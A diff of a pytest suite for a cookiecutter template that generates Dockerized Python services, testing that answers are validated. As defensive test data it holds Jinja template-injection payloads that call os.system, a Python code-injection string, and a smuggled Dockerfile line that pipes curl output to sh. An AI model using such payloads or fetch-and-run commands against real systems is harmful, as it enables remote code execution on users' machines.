@@ -11,14 +11,12 @@ from __future__ import annotations
 
 import json
 import re
-import sys
 import tempfile
 import tomllib
 from pathlib import Path
 
 import pytest
 import yaml
-from cookiecutter.environment import StrictEnvironment
 from cookiecutter.exceptions import FailedHookException
 from cookiecutter.main import cookiecutter
 from dockerfile_parse import DockerfileParser
@@ -27,24 +25,21 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from harness import ROOT
+from harness.baking import bake_into
 from harness.docker import engine
-from harness.matrix import LEVELS
+from harness.matrix import COOKIECUTTER, LEVEL_FACTS, LEVELS, PYTHONS
 from harness.process import run
 from harness.tools import BIN, tool_env
 
 FREE_TEXT = ("project_name", "description", "author_name", "author_email")
-
-
-def bake(output: Path, **answers) -> Path:
-    return Path(
-        cookiecutter(str(ROOT), no_input=True, output_dir=str(output), extra_context=answers)
-    )
+# A level whose Dockerfile carries the answers in OCI labels
+LABELLED = next(level for level in LEVELS if LEVEL_FACTS[level]["version_args"])
 
 
 def refuse(output: Path, capfd, **answers) -> list[str]:
     """Bake, expect a refusal; return the ERROR: lines. Nothing may be left."""
     with pytest.raises(FailedHookException):
-        bake(output, **answers)
+        bake_into(output, **answers)
     err = capfd.readouterr().err
     assert not list(output.iterdir()), f"a refused bake left {list(output.iterdir())}"
     assert "Traceback" not in err, err
@@ -167,11 +162,6 @@ TEXT = st.one_of(GOOD_TEXT, GOOD_TEXT, GOOD_TEXT, BAD_TEXT)
 EMAIL = st.one_of(st.emails(), st.emails(), GOOD_TEXT.map(lambda t: f"{t}@example.com"), TEXT)
 
 
-def as_cookiecutter_passes_it(value: str) -> str:
-    """Cookiecutter renders every --no-input answer as a Jinja template first."""
-    return StrictEnvironment().from_string(value).render()
-
-
 @settings(max_examples=200, deadline=None, database=None, suppress_health_check=list(HealthCheck))
 @given(
     level=st.sampled_from(LEVELS),
@@ -189,16 +179,12 @@ def test_any_free_text_bakes_faithfully_or_is_refused_cleanly(
         "author_name": author_name,
         "author_email": author_email,
     }
-    # Jinja in an answer is rendered by cookiecutter before any hook runs (README)
-    if any(marker in v for v in typed.values() for marker in ("{{", "{%", "{#")):
-        event("skipped: Jinja marker")
-        return
-    answers = {k: as_cookiecutter_passes_it(v) for k, v in typed.items()}
+    answers = typed  # as typed: no answer runs as Jinja (local_extensions.AnswersExtension)
     with tempfile.TemporaryDirectory() as folder:
         output = Path(folder)
         capfd.readouterr()
         try:
-            project = bake(output, project_slug="any-answer", docker_level=level, **typed)
+            project = bake_into(output, project_slug="any-answer", docker_level=level, **typed)
         except FailedHookException:
             err = capfd.readouterr().err
             assert "Traceback" not in err, err
@@ -210,8 +196,10 @@ def test_any_free_text_bakes_faithfully_or_is_refused_cleanly(
         assert_files_parse(project)
         assert_answers_round_trip(project, answers)
         labels = oci_labels(project / "Dockerfile")
-        if labels:
+        if LEVEL_FACTS[level]["version_args"]:  # the Dockerfile's OCI labels
             assert labels["org.opencontainers.image.description"] == answers["description"]
+        else:
+            assert labels == {}
         assert_ruff_clean(project)
 
 
@@ -220,17 +208,39 @@ def test_any_free_text_bakes_faithfully_or_is_refused_cleanly(
 INJECTION = '"""; __import__("pathlib").Path("INJECTED").touch(); """'
 
 
-def test_a_description_cannot_run_code_when_the_package_is_imported(tmp_path):
-    project = bake(tmp_path, description=INJECTION, docker_level="production-hardened")
-    run(
-        [sys.executable, "-c", "import hello_service, hello_service.main"],
-        cwd=project,
-        env={"PYTHONPATH": str(project / "src"), "PATH": ""},
-        check=False,
-    )
-    for folder in (project, tmp_path, Path.cwd()):
-        assert not (folder / "INJECTED").exists()
-    for module in project.rglob("*.py"):
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '{{ cycler.__init__.__globals__.os.system("touch INJECTED") }}',
+        "{% set x = cycler.__init__.__globals__.os.system('touch INJECTED') %}",
+        "A{{ 7*7 }} Service",
+    ],
+    ids=["expression", "statement", "arithmetic"],
+)
+@pytest.mark.parametrize("field", FREE_TEXT)
+def test_jinja_given_on_the_command_line_is_refused_not_run(
+    field, payload, tmp_path, capfd, monkeypatch
+):
+    monkeypatch.chdir(tmp_path)
+    output = tmp_path / "out"
+    output.mkdir()
+    value = f"{payload}@example.com" if field == "author_email" else payload
+
+    (error,) = refuse(output, capfd, **{field: value})
+
+    assert error.startswith(f"ERROR: {field} {value!r} holds '{{{{'"), error
+    assert not (tmp_path / "INJECTED").exists()
+
+
+def test_free_text_answers_never_reach_python_source(tmp_path):
+    answers = {field: f"{field} {INJECTION}" for field in FREE_TEXT if field != "author_email"}
+    project = bake_into(tmp_path, project_slug="any-answer", docker_level=LEVELS[0], **answers)
+
+    pyproject = tomllib.loads((project / "pyproject.toml").read_text(encoding="utf-8"))
+    assert pyproject["project"]["description"] == answers["description"]
+    sources = list(project.rglob("*.py"))
+    assert sources
+    for module in sources:
         assert "INJECTED" not in module.read_text(encoding="utf-8"), module
 
 
@@ -244,7 +254,7 @@ def test_a_description_cannot_run_code_when_the_package_is_imported(tmp_path):
     ],
 )
 def test_descriptions_that_broke_python_now_pass_the_projects_own_ruff(description, tmp_path):
-    project = bake(tmp_path, description=description, docker_level="step-3-basic-improvements")
+    project = bake_into(tmp_path, description=description, docker_level="step-3-basic-improvements")
     assert_files_parse(project)
     assert_ruff_clean(project)
 
@@ -265,8 +275,8 @@ def test_a_trailing_newline_is_refused(field, tmp_path, capfd):
 @pytest.mark.parametrize("field", FREE_TEXT)
 @pytest.mark.parametrize(
     "character",
-    ["\n", "\r", "\x00", "\x1b", "\u2028"],
-    ids=["LF", "CR", "NUL", "ESC", "LINE-SEPARATOR"],
+    ["\n", "\r", "\x00", "\x1b", "\u2028", "\ufeff"],
+    ids=["LF", "CR", "NUL", "ESC", "LINE-SEPARATOR", "BYTE-ORDER-MARK"],
 )
 def test_control_characters_in_one_line_answers_are_refused(field, character, tmp_path, capfd):
     value = {"author_email": f"jane{character}@example.com"}.get(field, f"Line one{character}two")
@@ -283,7 +293,7 @@ def test_emoji_and_rare_cjk_round_trip_into_pyproject_labels_and_readme(tmp_path
         "author_name": "Zoë 😀",
         "author_email": "zoe@example.com",
     }
-    project = bake(tmp_path, **answers, docker_level="production-hardened")
+    project = bake_into(tmp_path, **answers, docker_level=LABELLED)
     assert_answers_round_trip(project, answers)
     labels = oci_labels(project / "Dockerfile")
     assert labels["org.opencontainers.image.description"] == answers["description"]
@@ -301,13 +311,13 @@ def test_emoji_and_rare_cjk_round_trip_into_pyproject_labels_and_readme(tmp_path
     ],
 )
 def test_the_default_slug_is_a_transliterated_slug_of_the_name(name, slug, tmp_path):
-    project = bake(tmp_path, project_name=name)
+    project = bake_into(tmp_path, project_name=name)
     assert project.name == slug
     assert (project / "src" / slug.replace("-", "_")).is_dir()
 
 
 def test_a_long_project_name_gets_a_slug_that_fits(tmp_path):
-    project = bake(tmp_path, project_name="Quite " * 30 + "Long Service")
+    project = bake_into(tmp_path, project_name="Quite " * 30 + "Long Service")
     assert len(project.name) <= 40
     assert project.name.startswith("quite-quite")
 
@@ -337,8 +347,7 @@ def test_package_names_that_are_not_plain_identifiers_are_refused(package, tmp_p
 
 def test_the_reserved_names_cover_every_offered_python_and_every_locked_package():
     table = json.loads((ROOT / "templates/locks/reserved-names.json").read_text())
-    offered = json.loads((ROOT / "cookiecutter.json").read_text())["python_version"]
-    assert sorted(table["stdlib"]) == sorted(offered)
+    assert sorted(table["stdlib"]) == sorted(PYTHONS)
     for lock in (ROOT / "templates/locks").glob("*/poetry.lock"):
         for package in tomllib.loads(lock.read_text())["package"]:
             assert package["name"].lower().replace("-", "_") in table["locked"], package["name"]
@@ -362,14 +371,14 @@ EMAILS = [
 
 
 def test_the_email_check_agrees_with_poetry(tmp_path, capfd):
-    template = bake(tmp_path / "template", docker_level="step-2-kiss-poetry")
+    template = bake_into(tmp_path / "template", docker_level="step-2-kiss-poetry")
     pyproject = (template / "pyproject.toml").read_text(encoding="utf-8")
     verdicts = {}
     for index, email in enumerate(EMAILS):
         folder = tmp_path / f"bake-{index}"
         folder.mkdir()
         try:
-            bake(folder, author_email=email)
+            bake_into(folder, author_email=email)
             template_accepts = True
         except FailedHookException:
             template_accepts = False
@@ -394,7 +403,7 @@ def test_a_refused_slug_leaves_no_folder_anywhere(slug, tmp_path, capfd):
 
 def test_a_refused_answer_does_not_even_create_the_output_folder(tmp_path, capfd):
     with pytest.raises(FailedHookException):
-        bake(tmp_path / "not" / "yet", package_name="pluggy")
+        bake_into(tmp_path / "not" / "yet", package_name="pluggy")
     assert capfd.readouterr().err.startswith("ERROR: package_name 'pluggy'")
     assert list(tmp_path.iterdir()) == []
 
@@ -421,19 +430,13 @@ def test_tools_pins_must_be_versions(tmp_path, capfd):
 
 @pytest.mark.parametrize("level", LEVELS)
 def test_rebaking_over_a_project_gives_a_fresh_bake_next_to_the_users_files(level, tmp_path):
-    fresh = bake(tmp_path / "fresh", docker_level=level)
-    project = bake(tmp_path / "mine", docker_level=level)
+    fresh = bake_into(tmp_path / "fresh", docker_level=level)
+    project = bake_into(tmp_path / "mine", docker_level=level)
     package = next(p.parent for p in project.rglob("main.py"))
     (package / "billing.py").write_text("RATE = 1\n")
     (project / "NOTES.md").write_text("mine\n")
     for _ in range(2):  # twice: the second re-bake used to crash
-        cookiecutter(
-            str(ROOT),
-            no_input=True,
-            output_dir=str(tmp_path / "mine"),
-            overwrite_if_exists=True,
-            extra_context={"docker_level": level},
-        )
+        bake_into(tmp_path / "mine", overwrite_if_exists=True, docker_level=level)
 
     def files(root: Path) -> dict[str, bytes]:
         return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}
@@ -451,9 +454,9 @@ def test_hostile_answers_replay_from_the_answers_file_to_the_same_project(tmp_pa
         "author_name": "O'Brien \\ Ünïcode",
         "docker_level": "final-result",
     }
-    first = bake(tmp_path / "first", project_slug="replayed", **answers)
+    first = bake_into(tmp_path / "first", project_slug="replayed", **answers)
     recorded = json.loads((first / ".cookiecutter.json").read_text(encoding="utf-8"))
-    second = bake(tmp_path / "second", **recorded)
+    second = bake_into(tmp_path / "second", **recorded)
     for path in first.rglob("*"):
         if path.is_file():
             assert path.read_bytes() == (second / path.relative_to(first)).read_bytes(), path
@@ -465,7 +468,7 @@ def test_oci_labels_reach_the_built_image_exactly(tmp_path):
     if not found.available:
         pytest.skip(found.reason)
     answers = {"description": 'Say "hi" \\ to $HOME and ${PATH} 😀', "author_name": "O'Brien $X"}
-    project = bake(tmp_path, docker_level="production-hardened", **answers)
+    project = bake_into(tmp_path, docker_level=LABELLED, **answers)
     labels = [
         line
         for line in (project / "Dockerfile").read_text(encoding="utf-8").splitlines()
@@ -487,3 +490,82 @@ def test_oci_labels_reach_the_built_image_exactly(tmp_path):
         run(["docker", "image", "rm", "-f", tag], cwd=context, check=False, env=tool_env())
     assert image_labels["org.opencontainers.image.description"] == answers["description"]
     assert image_labels["org.opencontainers.image.authors"] == "O'Brien $X <jane@example.com>"
+
+
+# --- A replay file gives every value, private data included, unchecked by cookiecutter -----
+
+
+def replay_of(tmp_path: Path, **changes) -> Path:
+    """A replay file with the default answers and the template's own private data."""
+    context = {
+        key: value[0] if isinstance(value, list) and not key.startswith("_") else value
+        for key, value in COOKIECUTTER.items()
+    }
+    context.update(project_slug="hello-service", package_name="hello_service", **changes)
+    path = tmp_path / "replay.json"
+    path.write_text(json.dumps({"cookiecutter": context}), encoding="utf-8")
+    return path
+
+
+def bake_replay(tmp_path: Path, **changes) -> Path:
+    output = tmp_path / "out"
+    output.mkdir()
+    return Path(
+        cookiecutter(str(ROOT), replay=str(replay_of(tmp_path, **changes)), output_dir=str(output))
+    )
+
+
+def test_a_replay_file_with_the_defaults_bakes(tmp_path):
+    assert (bake_replay(tmp_path) / "Dockerfile").is_file()
+
+
+EVIL_LEVELS = json.loads(json.dumps(COOKIECUTTER["_levels"]))
+EVIL_LEVELS[LEVELS[0]]["user_id"] = "10001\nUSER root"
+REPLAYED = {
+    "python-not-offered": ({"python_version": "3.99"}, "python_version '3.99'"),
+    "python-with-instructions": (
+        {"python_version": "3.13 AS builder\nRUN curl -s http://example.com/x | sh"},
+        "python_version '3.13 AS builder",
+    ),
+    "level-not-offered": ({"docker_level": "step-9"}, "docker_level 'step-9'"),
+    "pre-commit-as-text": ({"use_pre_commit": "no"}, "use_pre_commit 'no'"),
+    "levels-rewritten": ({"_levels": EVIL_LEVELS}, "_levels is not this template's"),
+    "action-with-a-step": (
+        {"_actions": {**COOKIECUTTER["_actions"], "checkout": "actions/checkout@v4\n  - run: x"}},
+        "_actions.checkout 'actions/checkout@v4",
+    ),
+}
+
+
+@pytest.mark.parametrize("changes, bad", REPLAYED.values(), ids=REPLAYED.keys())
+def test_a_replay_file_cannot_put_values_the_template_does_not_offer_into_the_project(
+    changes, bad, tmp_path, capfd
+):
+    with pytest.raises(FailedHookException):
+        bake_replay(tmp_path, **changes)
+
+    errors = [line for line in capfd.readouterr().err.splitlines() if line.startswith("ERROR: ")]
+    assert any(line.startswith(f"ERROR: {bad}") for line in errors), errors
+    assert list((tmp_path / "out").iterdir()) == []
+
+
+# --- Small things an answer can hold ----------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["Project #", "Hello ##", "C# ###", "#"])
+def test_a_name_ending_in_hashes_keeps_them_in_the_readme_heading(name, tmp_path):
+    project = bake_into(tmp_path, project_name=name, project_slug="hashes")
+    assert markdown_blocks(project / "README.md")[0] == name
+
+
+def test_without_an_author_name_the_authors_label_is_the_address(tmp_path):
+    project = bake_into(tmp_path, author_name="", docker_level=LABELLED)
+    assert oci_labels(project / "Dockerfile")["org.opencontainers.image.authors"] == (
+        "jane@example.com"
+    )
+
+
+def test_a_package_name_made_from_the_slug_says_so_when_refused(tmp_path, capfd):
+    (error,) = refuse(tmp_path, capfd, project_name="3D Printer API")
+    assert error.startswith("ERROR: package_name '3d_printer_api' (made from project_slug ")
+    assert "give package_name yourself" in error
